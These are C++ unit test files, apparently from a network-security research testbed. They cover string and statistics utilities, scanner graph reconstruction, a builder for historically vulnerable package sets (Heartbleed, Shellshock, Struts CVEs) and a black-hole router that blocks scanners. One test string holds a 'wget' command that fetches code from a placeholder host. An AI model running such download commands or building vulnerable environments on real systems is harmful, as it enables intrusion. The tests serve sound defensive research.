  EXPECT_FALSE(starts_with("al", "alert_"));
  EXPECT_TRUE(ends_with("abs.c", ".c"));
  EXPECT_TRUE(contains("wget http://x/abs.c", "http://"));
  EXPECT_EQ(replace_all("http://a http://b", "http://", "hXXp://"), "hXXp://a hXXp://b");
  EXPECT_EQ(replace_all("aaa", "", "x"), "aaa");
}

TEST(Strings, Formatting) {
  EXPECT_EQ(fmt_double(3.14159, 2), "3.14");
  EXPECT_EQ(fmt_count(94238), "94,238");
  EXPECT_EQ(fmt_count(5), "5");
  EXPECT_EQ(fmt_count(1000000), "1,000,000");
  EXPECT_EQ(fmt_bytes(30ULL << 40), "30.0 TB");
  EXPECT_EQ(fmt_bytes(512), "512.0 B");
}

TEST(LogDomain, AddIsStable) {
  EXPECT_NEAR(log_add(std::log(2.0), std::log(3.0)), std::log(5.0), 1e-12);
  EXPECT_EQ(log_add(kLogZero, 1.5), 1.5);
  EXPECT_EQ(log_add(1.5, kLogZero), 1.5);
  // Huge magnitude difference must not overflow.
  EXPECT_NEAR(log_add(0.0, -1000.0), 0.0, 1e-12);
}

TEST(LogDomain, SafeLogExp) {
  EXPECT_EQ(safe_log(0.0), kLogZero);
  EXPECT_EQ(safe_exp(kLogZero), 0.0);
  EXPECT_NEAR(safe_exp(safe_log(0.25)), 0.25, 1e-12);
}

TEST(TextTableTest, RendersAligned) {
  TextTable table({"name", "value"});
  table.add_row({"alpha", "1"});
  table.add_row({"b", "22"});
  const auto text = table.render();
  EXPECT_NE(text.find("alpha"), std::string::npos);
  EXPECT_NE(text.find("---"), std::string::npos);
  EXPECT_EQ(table.rows(), 2u);
}

TEST(TextTableTest, RejectsBadRows) {
  TextTable table({"a", "b"});
  EXPECT_THROW(table.add_row({"only-one"}), std::invalid_argument);
  EXPECT_THROW(TextTable({}), std::invalid_argument);
}

TEST(TextTableTest, CsvOutput) {
  TextTable table({"x", "y"});
  table.add_row({"1", "2"});
  EXPECT_EQ(table.render_csv(), "x,y\n1,2\n");
}

TEST(ThreadPoolTest, RunsAllTasks) {
  ThreadPool pool(4);
  std::atomic<int> counter{0};
  for (int i = 0; i < 100; ++i) {
    pool.submit([&counter] { counter.fetch_add(1); });
  }
  pool.wait_idle();
  EXPECT_EQ(counter.load(), 100);
}

TEST(ThreadPoolTest, ParallelForCoversRange) {
  ThreadPool pool(3);
  std::vector<std::atomic<int>> hits(1000);
  pool.parallel_for(0, 1000, [&](std::size_t i) { hits[i].fetch_add(1); });
  for (const auto& hit : hits) EXPECT_EQ(hit.load(), 1);
}

TEST(ThreadPoolTest, ParallelForEmptyRange) {
  ThreadPool pool(2);
  bool ran = false;
  pool.parallel_for(5, 5, [&](std::size_t) { ran = true; });
  EXPECT_FALSE(ran);
}

}  // namespace
}  // namespace at::util
