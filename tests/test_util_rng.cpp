// Tests for the deterministic RNG: reproducibility, stream independence,
// and the statistical sanity of every distribution the simulators rely on.

#include <gtest/gtest.h>

#include <algorithm>
#include <set>

#include "util/rng.hpp"
#include "util/stats.hpp"

namespace at::util {
namespace {

TEST(Rng, SameSeedSameStream) {
  Rng a(123);
  Rng b(123);
  for (int i = 0; i < 1000; ++i) EXPECT_EQ(a(), b());
}

TEST(Rng, DifferentSeedsDiverge) {
  Rng a(1);
  Rng b(2);
  int equal = 0;
  for (int i = 0; i < 100; ++i) {
    if (a() == b()) ++equal;
  }
  EXPECT_LT(equal, 2);
}

TEST(Rng, ForkIsIndependentOfParentConsumption) {
  Rng parent(77);
  Rng child1 = parent.fork(5);
  (void)parent();
  (void)parent();
  Rng parent2(77);
  Rng child2 = parent2.fork(5);
  for (int i = 0; i < 100; ++i) EXPECT_EQ(child1(), child2());
}

TEST(Rng, ForkStreamsDiffer) {
  Rng parent(77);
  Rng a = parent.fork(1);
  Rng b = parent.fork(2);
  int equal = 0;
  for (int i = 0; i < 100; ++i) {
    if (a() == b()) ++equal;
  }
  EXPECT_LT(equal, 2);
}

TEST(Rng, UniformInRange) {
  Rng rng(9);
  for (int i = 0; i < 10000; ++i) {
    const double u = rng.uniform();
    EXPECT_GE(u, 0.0);
    EXPECT_LT(u, 1.0);
  }
}

TEST(Rng, UniformIntInclusiveBounds) {
  Rng rng(10);
  bool saw_lo = false;
  bool saw_hi = false;
  for (int i = 0; i < 10000; ++i) {
    const auto v = rng.uniform_int(3, 7);
    EXPECT_GE(v, 3);
    EXPECT_LE(v, 7);
    saw_lo |= v == 3;
    saw_hi |= v == 7;
  }
  EXPECT_TRUE(saw_lo);
  EXPECT_TRUE(saw_hi);
}

TEST(Rng, UniformIntDegenerateRange) {
  Rng rng(11);
  EXPECT_EQ(rng.uniform_int(5, 5), 5);
}

TEST(Rng, NormalMomentsMatch) {
  Rng rng(12);
  OnlineStats stats;
  for (int i = 0; i < 50000; ++i) stats.add(rng.normal(10.0, 3.0));
  EXPECT_NEAR(stats.mean(), 10.0, 0.1);
  EXPECT_NEAR(stats.stddev(), 3.0, 0.1);
}

TEST(Rng, ExponentialMeanMatches) {
  Rng rng(13);
  OnlineStats stats;
  for (int i = 0; i < 50000; ++i) stats.add(rng.exponential(0.5));
  EXPECT_NEAR(stats.mean(), 2.0, 0.1);
}

TEST(Rng, PoissonSmallMean) {
  Rng rng(14);
  OnlineStats stats;
  for (int i = 0; i < 50000; ++i) stats.add(static_cast<double>(rng.poisson(3.0)));
  EXPECT_NEAR(stats.mean(), 3.0, 0.1);
  EXPECT_NEAR(stats.variance(), 3.0, 0.3);
}

TEST(Rng, PoissonLargeMeanUsesNormalApprox) {
  Rng rng(15);
  OnlineStats stats;
  for (int i = 0; i < 20000; ++i) stats.add(static_cast<double>(rng.poisson(1000.0)));
  EXPECT_NEAR(stats.mean(), 1000.0, 5.0);
}

TEST(Rng, PoissonZeroMean) {
  Rng rng(16);
  EXPECT_EQ(rng.poisson(0.0), 0u);
  EXPECT_EQ(rng.poisson(-1.0), 0u);
}

TEST(Rng, ZipfRanksWithinRange) {
  Rng rng(17);
  std::uint64_t ones = 0;
  for (int i = 0; i < 10000; ++i) {
    const auto rank = rng.zipf(100, 1.2);
    ASSERT_GE(rank, 1u);
    ASSERT_LE(rank, 100u);
    if (rank == 1) ++ones;
  }
  // Rank 1 must dominate under a zipf law.
  EXPECT_GT(ones, 1000u);
}

TEST(Rng, WeightedIndexRespectsWeights) {
  Rng rng(18);
  std::vector<double> weights = {1.0, 0.0, 3.0};
  std::vector<int> counts(3, 0);
  for (int i = 0; i < 20000; ++i) ++counts[rng.weighted_index(weights)];
  EXPECT_EQ(counts[1], 0);
  EXPECT_NEAR(static_cast<double>(counts[2]) / counts[0], 3.0, 0.3);
}

TEST(Rng, SampleIndicesDistinct) {
  Rng rng(19);
  const auto sample = rng.sample_indices(100, 30);
  ASSERT_EQ(sample.size(), 30u);
  std::set<std::size_t> unique(sample.begin(), sample.end());
  EXPECT_EQ(unique.size(), 30u);
  for (const auto index : sample) EXPECT_LT(index, 100u);
}

TEST(Rng, SampleIndicesClampsToPopulation) {
  Rng rng(20);
  EXPECT_EQ(rng.sample_indices(5, 10).size(), 5u);
}

TEST(Rng, ShuffleIsPermutation) {
  Rng rng(21);
  std::vector<int> values = {1, 2, 3, 4, 5, 6, 7, 8};
  auto shuffled = values;
  rng.shuffle(shuffled);
  std::sort(shuffled.begin(), shuffled.end());
  EXPECT_EQ(shuffled, values);
}

TEST(Rng, GeometricEdgeCases) {
  Rng rng(22);
  EXPECT_EQ(rng.geometric(1.0), 0u);
  OnlineStats stats;
  for (int i = 0; i < 20000; ++i) stats.add(static_cast<double>(rng.geometric(0.25)));
  EXPECT_NEAR(stats.mean(), 3.0, 0.15);  // (1-p)/p
}

}  // namespace
}  // namespace at::util
