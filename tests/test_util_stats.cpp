// Statistics utilities: Welford accumulation, merging, quantiles, CDFs,
// histograms, and the label counter.

#include <gtest/gtest.h>

#include <cmath>

#include "util/stats.hpp"

namespace at::util {
namespace {

TEST(OnlineStats, EmptyIsZero) {
  OnlineStats stats;
  EXPECT_EQ(stats.count(), 0u);
  EXPECT_EQ(stats.mean(), 0.0);
  EXPECT_EQ(stats.stddev(), 0.0);
}

TEST(OnlineStats, KnownValues) {
  OnlineStats stats;
  for (const double x : {2.0, 4.0, 4.0, 4.0, 5.0, 5.0, 7.0, 9.0}) stats.add(x);
  EXPECT_DOUBLE_EQ(stats.mean(), 5.0);
  EXPECT_DOUBLE_EQ(stats.variance(), 4.0);  // population variance
  EXPECT_DOUBLE_EQ(stats.stddev(), 2.0);
  EXPECT_EQ(stats.min(), 2.0);
  EXPECT_EQ(stats.max(), 9.0);
  EXPECT_DOUBLE_EQ(stats.sum(), 40.0);
}

TEST(OnlineStats, MergeEqualsSequential) {
  OnlineStats whole;
  OnlineStats left;
  OnlineStats right;
  for (int i = 0; i < 100; ++i) {
    const double x = std::sin(i) * 10.0;
    whole.add(x);
    (i < 37 ? left : right).add(x);
  }
  left.merge(right);
  EXPECT_EQ(left.count(), whole.count());
  EXPECT_NEAR(left.mean(), whole.mean(), 1e-12);
  EXPECT_NEAR(left.variance(), whole.variance(), 1e-10);
  EXPECT_EQ(left.min(), whole.min());
  EXPECT_EQ(left.max(), whole.max());
}

TEST(OnlineStats, MergeWithEmpty) {
  OnlineStats a;
  a.add(1.0);
  OnlineStats empty;
  a.merge(empty);
  EXPECT_EQ(a.count(), 1u);
  empty.merge(a);
  EXPECT_EQ(empty.count(), 1u);
  EXPECT_EQ(empty.mean(), 1.0);
}

TEST(Quantile, Interpolates) {
  const std::vector<double> values = {1.0, 2.0, 3.0, 4.0};
  EXPECT_DOUBLE_EQ(quantile(values, 0.0), 1.0);
  EXPECT_DOUBLE_EQ(quantile(values, 1.0), 4.0);
  EXPECT_DOUBLE_EQ(quantile(values, 0.5), 2.5);
}

TEST(Quantile, ThrowsOnEmpty) {
  EXPECT_THROW((void)quantile({}, 0.5), std::invalid_argument);
}

TEST(Cdf, MonotoneAndEndsAtOne) {
  const std::vector<double> values = {3.0, 1.0, 2.0, 2.0, 5.0};
  const auto cdf = empirical_cdf(values);
  ASSERT_EQ(cdf.size(), 4u);  // distinct values
  for (std::size_t i = 1; i < cdf.size(); ++i) {
    EXPECT_GT(cdf[i].value, cdf[i - 1].value);
    EXPECT_GE(cdf[i].fraction, cdf[i - 1].fraction);
  }
  EXPECT_DOUBLE_EQ(cdf.back().fraction, 1.0);
  // 2.0 covers 3 of 5 samples.
  EXPECT_DOUBLE_EQ(cdf[1].value, 2.0);
  EXPECT_DOUBLE_EQ(cdf[1].fraction, 0.6);
}

TEST(FractionAtOrBelow, Basic) {
  const std::vector<double> values = {0.1, 0.2, 0.3, 0.9};
  EXPECT_DOUBLE_EQ(fraction_at_or_below(values, 0.3), 0.75);
  EXPECT_DOUBLE_EQ(fraction_at_or_below(values, 0.0), 0.0);
  EXPECT_DOUBLE_EQ(fraction_at_or_below({}, 1.0), 0.0);
}

TEST(HistogramTest, BinsAndClamping) {
  Histogram hist(0.0, 10.0, 5);
  hist.add(0.5);
  hist.add(9.9);
  hist.add(-5.0);   // clamps into first bin
  hist.add(100.0);  // clamps into last bin
  EXPECT_EQ(hist.bin_count(0), 2u);
  EXPECT_EQ(hist.bin_count(4), 2u);
  EXPECT_EQ(hist.total(), 4u);
  EXPECT_DOUBLE_EQ(hist.bin_lo(0), 0.0);
  EXPECT_DOUBLE_EQ(hist.bin_hi(4), 10.0);
}

TEST(HistogramTest, RejectsBadConstruction) {
  EXPECT_THROW(Histogram(0.0, 10.0, 0), std::invalid_argument);
  EXPECT_THROW(Histogram(5.0, 5.0, 3), std::invalid_argument);
}

TEST(HistogramTest, AsciiRendersEveryBin) {
  Histogram hist(0.0, 4.0, 4);
  hist.add(1.0);
  const auto art = hist.ascii();
  EXPECT_EQ(std::count(art.begin(), art.end(), '\n'), 4);
}

TEST(LabelCounterTest, CountsAndSorts) {
  LabelCounter counter;
  counter.add("b");
  counter.add("a", 3);
  counter.add("b");
  EXPECT_EQ(counter.count("a"), 3u);
  EXPECT_EQ(counter.count("b"), 2u);
  EXPECT_EQ(counter.count("missing"), 0u);
  EXPECT_EQ(counter.total(), 5u);
  EXPECT_EQ(counter.distinct(), 2u);
  const auto sorted = counter.sorted();
  ASSERT_EQ(sorted.size(), 2u);
  EXPECT_EQ(sorted[0].first, "a");
}

TEST(LabelCounterTest, TieBreaksAlphabetically) {
  LabelCounter counter;
  counter.add("z");
  counter.add("a");
  const auto sorted = counter.sorted();
  EXPECT_EQ(sorted[0].first, "a");
}

}  // namespace
}  // namespace at::util
