// Graph model, Fig-1 reconstruction (exact node/edge counts), layout
// sanity, and the exporters.

#include <gtest/gtest.h>

#include <cmath>
#include <fstream>

#include "viz/export.hpp"
#include "viz/fig1.hpp"
#include "viz/layout.hpp"

namespace at::viz {
namespace {

TEST(GraphTest, NodeDedupAndEdgeCoalescing) {
  Graph graph;
  const auto a = graph.node_for(net::Ipv4(1, 1, 1, 1), NodeRole::kLegitimate);
  const auto a2 = graph.node_for(net::Ipv4(1, 1, 1, 1), NodeRole::kMassScanner);
  EXPECT_EQ(a, a2);
  EXPECT_EQ(graph.nodes()[a].role, NodeRole::kLegitimate);  // role set on creation
  const auto b = graph.node_for(net::Ipv4(2, 2, 2, 2), NodeRole::kLegitimate);
  graph.add_edge(a, b);
  graph.add_edge(a, b);  // duplicate
  graph.add_edge(b, a);  // reverse is distinct (directed)
  EXPECT_EQ(graph.node_count(), 2u);
  EXPECT_EQ(graph.edge_count(), 2u);
  EXPECT_THROW(graph.add_edge(a, 99), std::out_of_range);
}

TEST(GraphTest, DegreeAndMaxDegree) {
  Graph graph;
  const auto hub = graph.node_for(net::Ipv4(1, 0, 0, 0), NodeRole::kMassScanner);
  for (std::uint8_t i = 1; i <= 10; ++i) {
    const auto leaf = graph.node_for(net::Ipv4(2, 0, 0, i), NodeRole::kScanTarget);
    graph.add_edge(hub, leaf);
  }
  EXPECT_EQ(graph.degree(hub), 10u);
  EXPECT_EQ(graph.max_degree_node(), hub);
  EXPECT_EQ(graph.count_role(NodeRole::kScanTarget), 10u);
}

TEST(Fig1Test, ExactPaperCounts) {
  // "The graph contains 29,075 nodes and 27,336 edges."
  const auto data = build_fig1();
  EXPECT_EQ(data.graph.node_count(), 29'075u);
  EXPECT_EQ(data.graph.edge_count(), 27'336u);
  // "NCSA's black hole router recorded 26.85 million scans".
  EXPECT_EQ(data.recorded_probes, 26'850'000u);
  // "We sampled 10,000 most frequent scans from a mass scanner".
  EXPECT_EQ(data.graph.count_role(NodeRole::kScanTarget), 10'000u);
}

TEST(Fig1Test, PartAIsTheCentralHub) {
  const auto data = build_fig1();
  EXPECT_EQ(data.graph.max_degree_node(), data.scanner_node);
  EXPECT_EQ(data.graph.degree(data.scanner_node), 10'000u);
  EXPECT_EQ(data.graph.nodes()[data.scanner_node].role, NodeRole::kMassScanner);
  // The scanner's label is anonymized to its /16 prefix, like the paper's
  // "103.102" annotation.
  EXPECT_TRUE(data.graph.nodes()[data.scanner_node].label.starts_with("103.102."));
}

TEST(Fig1Test, PartBAttackPathExists) {
  const auto data = build_fig1();
  EXPECT_EQ(data.graph.count_role(NodeRole::kAttacker), 1u);
  EXPECT_EQ(data.graph.count_role(NodeRole::kAttackVictim), 6u);
  // The attack flows are established connections (it succeeded), starting
  // at PostgreSQL port 5432.
  bool saw_pg_entry = false;
  for (const auto& flow : data.flows) {
    if (flow.dst_port == net::ports::kPostgres &&
        flow.state == net::ConnState::kEstablished) {
      saw_pg_entry = true;
    }
  }
  EXPECT_TRUE(saw_pg_entry);
}

TEST(Fig1Test, FlowSampleMatchesGraphScale) {
  const auto data = build_fig1();
  EXPECT_EQ(data.flows.size(), data.graph.edge_count());
  // All flows happen within the one-hour window of 2024-08-01 00:00-01:00.
  const auto start = util::to_sim_time(util::CivilDateTime{{2024, 8, 1}, 0, 0, 0});
  for (const auto& flow : data.flows) {
    EXPECT_GE(flow.ts, start);
    EXPECT_LT(flow.ts, start + util::kHour);
  }
}

TEST(Fig1Test, Deterministic) {
  const auto a = build_fig1();
  const auto b = build_fig1();
  ASSERT_EQ(a.flows.size(), b.flows.size());
  EXPECT_EQ(a.flows[0].ts, b.flows[0].ts);
  EXPECT_EQ(a.flows.back().src, b.flows.back().src);
}

TEST(LayoutTest, ProducesFiniteSpreadCoordinates) {
  Fig1Config config;
  config.mass_scan_targets = 200;
  config.other_scanners = 4;
  config.other_scan_targets_total = 100;
  config.legit_pairs = 50;
  auto data = build_fig1(config);
  LayoutOptions options;
  options.iterations = 20;
  const auto stats = run_layout(data.graph, options);
  EXPECT_EQ(stats.iterations, 20u);
  EXPECT_GT(stats.bounding_radius, 0.0);
  for (const auto& node : data.graph.nodes()) {
    EXPECT_TRUE(std::isfinite(node.x));
    EXPECT_TRUE(std::isfinite(node.y));
  }
}

TEST(LayoutTest, StarTargetsOrbitTheHub) {
  // In a pure star the spring forces should keep leaf nodes much closer to
  // the hub than to the layout's far corner.
  Graph graph;
  const auto hub = graph.node_for(net::Ipv4(1, 0, 0, 0), NodeRole::kMassScanner);
  for (std::uint32_t i = 0; i < 60; ++i) {
    const auto leaf = graph.node_for(net::Ipv4(2, 0, static_cast<std::uint8_t>(i >> 8),
                                               static_cast<std::uint8_t>(i & 0xff)),
                                     NodeRole::kScanTarget);
    graph.add_edge(hub, leaf);
  }
  LayoutOptions options;
  options.iterations = 80;
  run_layout(graph, options);
  const auto& nodes = graph.nodes();
  double mean_dist = 0.0;
  for (std::size_t i = 1; i < nodes.size(); ++i) {
    const double dx = nodes[i].x - nodes[hub].x;
    const double dy = nodes[i].y - nodes[hub].y;
    mean_dist += std::sqrt(dx * dx + dy * dy);
  }
  mean_dist /= static_cast<double>(nodes.size() - 1);
  // Leaves sit within a modest ring, not scattered over the whole area.
  EXPECT_LT(mean_dist, std::sqrt(options.area) / 2.0);
}

TEST(LayoutTest, DeterministicForSeed) {
  auto make = [] {
    Graph graph;
    const auto a = graph.node_for(net::Ipv4(1, 0, 0, 1), NodeRole::kLegitimate);
    const auto b = graph.node_for(net::Ipv4(1, 0, 0, 2), NodeRole::kLegitimate);
    graph.add_edge(a, b);
    return graph;
  };
  auto g1 = make();
  auto g2 = make();
  run_layout(g1);
  run_layout(g2);
  EXPECT_DOUBLE_EQ(g1.nodes()[0].x, g2.nodes()[0].x);
  EXPECT_DOUBLE_EQ(g1.nodes()[1].y, g2.nodes()[1].y);
}

TEST(LayoutTest, EmptyGraph) {
  Graph graph;
  const auto stats = run_layout(graph);
  EXPECT_EQ(stats.iterations, 0u);
}

TEST(ExportTest, DotContainsNodesAndEdges) {
  Graph graph;
  const auto a = graph.node_for(net::Ipv4(103, 102, 1, 1), NodeRole::kMassScanner);
  const auto b = graph.node_for(net::Ipv4(141, 142, 1, 1), NodeRole::kScanTarget);
  graph.add_edge(a, b);
  const auto dot = to_dot(graph);
  EXPECT_NE(dot.find("digraph"), std::string::npos);
  EXPECT_NE(dot.find("103.102.xxx.yyy"), std::string::npos);
  EXPECT_NE(dot.find("n0 -> n1"), std::string::npos);
  EXPECT_NE(dot.find("mass_scanner"), std::string::npos);
}

TEST(ExportTest, GexfWellFormedEnough) {
  Graph graph;
  const auto a = graph.node_for(net::Ipv4(1, 1, 1, 1), NodeRole::kLegitimate);
  const auto b = graph.node_for(net::Ipv4(2, 2, 2, 2), NodeRole::kLegitimate);
  graph.add_edge(a, b);
  const auto gexf = to_gexf(graph);
  EXPECT_NE(gexf.find("<gexf"), std::string::npos);
  EXPECT_NE(gexf.find("</gexf>"), std::string::npos);
  EXPECT_NE(gexf.find("<edge id=\"0\" source=\"0\" target=\"1\""), std::string::npos);
}

TEST(ExportTest, EdgeCsv) {
  Graph graph;
  const auto a = graph.node_for(net::Ipv4(1, 1, 1, 1), NodeRole::kLegitimate);
  const auto b = graph.node_for(net::Ipv4(2, 2, 2, 2), NodeRole::kLegitimate);
  graph.add_edge(a, b);
  EXPECT_EQ(to_edge_csv(graph), "source,target\n1.1.xxx.yyy,2.2.xxx.yyy\n");
}

TEST(ExportTest, WriteFile) {
  const std::string path = ::testing::TempDir() + "/at_viz_test.dot";
  write_file(path, "digraph {}\n");
  std::ifstream in(path);
  std::string content((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  EXPECT_EQ(content, "digraph {}\n");
  EXPECT_THROW(write_file("/nonexistent-dir/x.dot", "x"), std::runtime_error);
}

}  // namespace
}  // namespace at::viz
