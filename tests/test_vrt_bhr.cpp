// VRT (snapshot builds, Heartbleed worked example, straw-man failure) and
// the Black Hole Router (API, TTLs, scan classification).

#include <gtest/gtest.h>

#include "bhr/bhr.hpp"
#include "vrt/builder.hpp"

namespace at {
namespace {

// --- VRT ---

TEST(SnapshotArchive, ReleaseTimeline) {
  vrt::SnapshotArchive archive;
  // The paper's example: just before 2014-04-01 the current Debian stable
  // was wheezy (Debian 7, released 2013-05-04).
  const auto release = archive.release_for({2014, 4, 1});
  ASSERT_TRUE(release.has_value());
  EXPECT_EQ(release->codename, "wheezy");
  EXPECT_EQ(release->version, 7);
  // Before the first release there is nothing.
  EXPECT_FALSE(archive.release_for({2004, 1, 1}).has_value());
  // Today's stable is bookworm.
  EXPECT_EQ(archive.release_for({2024, 8, 1})->codename, "bookworm");
}

TEST(SnapshotArchive, VersionAtDate) {
  vrt::SnapshotArchive archive;
  const auto heartbleed = archive.version_at("openssl", {2014, 4, 1});
  ASSERT_TRUE(heartbleed.has_value());
  EXPECT_EQ(heartbleed->version, "1.0.1f");
  EXPECT_EQ(heartbleed->cve, "CVE-2014-0160");
  // After the fix date the patched version is served.
  EXPECT_EQ(archive.version_at("openssl", {2014, 4, 8})->version, "1.0.1g");
  // Before the snapshot era there is nothing.
  EXPECT_FALSE(archive.version_at("openssl", {2004, 1, 1}).has_value());
  EXPECT_FALSE(archive.version_at("no-such-pkg", {2015, 1, 1}).has_value());
}

TEST(ContainerBuilder, HeartbleedWorkedExample) {
  // Paper Section IV-A: input 20140401 must produce a wheezy container
  // with the vulnerable openssl 1.0.1f and a consistent dependency set.
  vrt::SnapshotArchive archive;
  vrt::ContainerBuilder builder(archive);
  const auto result = builder.build("openssl", "20140401");
  ASSERT_TRUE(result.success) << (result.errors.empty() ? "" : result.errors[0]);
  EXPECT_EQ(result.distribution, "wheezy (Debian 7)");
  ASSERT_FALSE(result.closure.empty());
  EXPECT_EQ(result.closure.back().package, "openssl");
  EXPECT_EQ(result.closure.back().version, "1.0.1f");
  const auto cves = result.vulnerabilities();
  ASSERT_EQ(cves.size(), 1u);
  EXPECT_EQ(cves[0], "CVE-2014-0160");
  // Dependencies resolve to their era versions.
  bool saw_libc = false;
  for (const auto& pkg : result.closure) {
    if (pkg.package == "libc6") {
      saw_libc = true;
      EXPECT_EQ(pkg.version, "2.3");
    }
  }
  EXPECT_TRUE(saw_libc);
}

TEST(ContainerBuilder, StrawManFailsOnDependencySkew) {
  // The paper's argument: compiling an old vulnerable package on a current
  // distribution fails because its era dependencies are gone.
  vrt::SnapshotArchive archive;
  vrt::ContainerBuilder builder(archive);
  const auto result =
      builder.build("openssl", "20140401", vrt::BuildStrategy::kStrawMan);
  EXPECT_FALSE(result.success);
  ASSERT_FALSE(result.errors.empty());
  EXPECT_NE(result.errors[0].find("dependency skew"), std::string::npos);
}

TEST(ContainerBuilder, SnapshotSucceedsAcrossEra) {
  // The tool works "at any point in the past (2005-present)".
  vrt::SnapshotArchive archive;
  vrt::ContainerBuilder builder(archive);
  for (const char* date : {"20060101", "20120101", "20160101", "20200101", "20240101"}) {
    const auto result = builder.build("openssl", date);
    EXPECT_TRUE(result.success) << date;
  }
}

TEST(ContainerBuilder, OtherVulnerabilities) {
  vrt::SnapshotArchive archive;
  vrt::ContainerBuilder builder(archive);
  // Shellshock-era bash.
  const auto bash = builder.build("bash", "20140901");
  ASSERT_TRUE(bash.success);
  EXPECT_EQ(bash.vulnerabilities(), std::vector<std::string>{"CVE-2014-6271"});
  // The Struts RCE used in the Equifax breach (paper ref [17]).
  const auto struts = builder.build("struts", "20170301");
  ASSERT_TRUE(struts.success);
  EXPECT_EQ(struts.vulnerabilities(), std::vector<std::string>{"CVE-2017-5638"});
  // After the fix date the same build carries no CVE.
  EXPECT_TRUE(builder.build("struts", "20170401").vulnerabilities().empty());
}

TEST(ContainerBuilder, InputValidation) {
  vrt::SnapshotArchive archive;
  vrt::ContainerBuilder builder(archive);
  EXPECT_FALSE(builder.build("openssl", "not-a-date").success);
  EXPECT_FALSE(builder.build("openssl", "20040101").success);  // pre-snapshot
  EXPECT_FALSE(builder.build("no-such-pkg", "20150101").success);
}

// --- BHR ---

TEST(BhrTest, BlockQueryUnblock) {
  bhr::BlackHoleRouter router;
  const net::Ipv4 bad(9, 9, 9, 9);
  EXPECT_FALSE(router.is_blocked(bad, 0));
  EXPECT_TRUE(router.block(bad, 100, 0, "mass scanner", "operator"));
  EXPECT_TRUE(router.is_blocked(bad, 1'000'000));  // permanent
  const auto entry = router.query(bad, 200);
  ASSERT_TRUE(entry.has_value());
  EXPECT_EQ(entry->reason, "mass scanner");
  EXPECT_EQ(entry->requested_by, "operator");
  EXPECT_TRUE(router.unblock(bad, 300, "operator"));
  EXPECT_FALSE(router.is_blocked(bad, 301));
  EXPECT_FALSE(router.unblock(bad, 302, "operator"));
}

TEST(BhrTest, TtlExpiry) {
  bhr::BlackHoleRouter router;
  const net::Ipv4 bad(9, 9, 9, 9);
  router.block(bad, 100, 50, "scan", "pipeline");
  EXPECT_TRUE(router.is_blocked(bad, 149));
  EXPECT_FALSE(router.is_blocked(bad, 150));
  EXPECT_EQ(router.active_blocks(149), 1u);
  EXPECT_EQ(router.active_blocks(150), 0u);
  EXPECT_EQ(router.expire(200), 1u);
  EXPECT_EQ(router.expire(200), 0u);
}

TEST(BhrTest, ReblockExtends) {
  bhr::BlackHoleRouter router;
  const net::Ipv4 bad(9, 9, 9, 9);
  router.block(bad, 100, 50, "first", "p");
  router.block(bad, 140, 50, "second", "p");
  EXPECT_TRUE(router.is_blocked(bad, 170));
  EXPECT_EQ(router.query(bad, 170)->reason, "second");
}

TEST(BhrTest, NeverBlocksProtectedSpace) {
  bhr::BlackHoleRouter router;
  const net::Ipv4 internal(141, 142, 5, 5);
  EXPECT_FALSE(router.block(internal, 0, 0, "should not happen", "p"));
  EXPECT_FALSE(router.is_blocked(internal, 1));
  // The refusal is still audited.
  ASSERT_EQ(router.audit_log().size(), 1u);
  EXPECT_FALSE(router.audit_log()[0].ok);
}

TEST(BhrTest, FilterDropsBlockedTraffic) {
  bhr::BlackHoleRouter router;
  const net::Ipv4 bad(9, 9, 9, 9);
  router.block(bad, 0, 0, "scan", "p");
  net::Flow flow;
  flow.ts = 10;
  flow.src = bad;
  EXPECT_TRUE(router.filter(flow));
  flow.src = net::Ipv4(8, 8, 8, 8);
  EXPECT_FALSE(router.filter(flow));
  EXPECT_EQ(router.dropped_flows(), 1u);
  EXPECT_EQ(router.passed_flows(), 1u);
}

TEST(BhrTest, AuditTrailRecordsEverything) {
  bhr::BlackHoleRouter router;
  router.block(net::Ipv4(1, 1, 1, 1), 0, 10, "a", "x");
  router.unblock(net::Ipv4(1, 1, 1, 1), 5, "x");
  ASSERT_EQ(router.audit_log().size(), 2u);
  EXPECT_EQ(router.audit_log()[0].method, "block");
  EXPECT_EQ(router.audit_log()[1].method, "unblock");
  EXPECT_TRUE(router.audit_log()[0].ok);
}

TEST(ScanRecorderTest, CountsAndDistinctTargets) {
  bhr::ScanRecorder recorder;
  const net::Ipv4 scanner(9, 9, 9, 9);
  net::Flow flow;
  flow.src = scanner;
  for (std::uint32_t i = 0; i < 100; ++i) {
    flow.ts = i;
    flow.dst = net::Ipv4(141, 142, 0, static_cast<std::uint8_t>(i % 50));
    recorder.record(flow);
  }
  EXPECT_EQ(recorder.total_probes(), 100u);
  EXPECT_EQ(recorder.distinct_sources(), 1u);
  const auto top = recorder.top_scanners(5);
  ASSERT_EQ(top.size(), 1u);
  EXPECT_EQ(top[0].probes, 100u);
  EXPECT_EQ(top[0].distinct_targets, 50u);  // exact bitmap over the /16
  EXPECT_GT(top[0].rate_per_s(), 0.0);
}

TEST(ScanRecorderTest, MassScannerClassification) {
  bhr::ScanRecorder recorder;
  net::Flow flow;
  // One mass scanner hits 200 distinct hosts; one ordinary client hits 2.
  flow.src = net::Ipv4(9, 9, 9, 9);
  for (std::uint32_t i = 0; i < 200; ++i) {
    flow.dst = net::Ipv4(141, 142, static_cast<std::uint8_t>(i / 250),
                         static_cast<std::uint8_t>(i % 250));
    recorder.record(flow);
  }
  flow.src = net::Ipv4(8, 8, 8, 8);
  flow.dst = net::Ipv4(141, 142, 0, 1);
  recorder.record(flow);
  flow.dst = net::Ipv4(141, 142, 0, 2);
  recorder.record(flow);

  const auto mass = recorder.mass_scanners(100);
  ASSERT_EQ(mass.size(), 1u);
  EXPECT_EQ(mass[0].source, net::Ipv4(9, 9, 9, 9));
  EXPECT_EQ(recorder.mass_scanners(1).size(), 2u);
}

}  // namespace
}  // namespace at
