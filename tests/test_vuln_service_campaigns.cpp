// VRT-backed vulnerable services and the Struts / SSH-keylogger campaign
// scenarios, including the patched-build negative case and pipeline
// entity eviction.

#include <gtest/gtest.h>

#include "replay/campaigns.hpp"
#include "replay/ransomware.hpp"

namespace at {
namespace {

const incidents::Corpus& training() {
  static const incidents::Corpus corpus = [] {
    incidents::CorpusConfig config;
    config.repetition_scale = 0.02;
    return incidents::CorpusGenerator(config).generate();
  }();
  return corpus;
}

struct CampaignFixture : public ::testing::Test {
  void SetUp() override {
    bed = std::make_unique<testbed::Testbed>(testbed::TestbedConfig{}, training());
    bed->deploy(0);
  }
  std::unique_ptr<testbed::Testbed> bed;
};

